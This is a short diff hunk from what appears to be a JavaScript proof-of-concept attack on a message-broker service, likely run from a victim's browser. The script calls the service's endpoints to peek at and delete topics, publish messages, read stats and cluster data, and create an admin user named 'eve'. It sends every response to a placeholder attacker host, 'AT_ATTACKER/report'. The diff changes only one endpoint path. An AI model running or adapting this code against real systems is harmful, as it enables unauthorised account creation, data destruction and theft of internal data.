@@ -185,7 +185,7 @@ const report = (name, text) => fetch("AT_ATTACKER/report?" + name, {method: "POS
     await new Promise(done => setTimeout(done, 50));
   }
   for (const [name, url, method] of [["peek", "/v1/topic/peek?topic=orders", "GET"], ["stats", "/stats?format=json", "GET"], ["delete", "/topic/delete?topic=orders", "POST"],
-    ["admin", "/v1/user/create?name=eve&admin=true", "POST"], ["pub", "/pub?topic=orders", "POST"], ["cluster", "/v1/cluster", "GET"], ["ui", "/ui/data", "GET"]]) {
+    ["admin", "/v1/user/create?name=eve&admin=true", "POST"], ["pub", "/pub?topic=orders", "POST"], ["cluster", "/v1/cluster", "GET"], ["ui", "/v1/console/topics", "GET"]]) {
     const text = await fetch(url, {method}).then(r => r.text().then(t => r.status + " " + t), e => "failed: " + e);
     await report(name, text);
   }
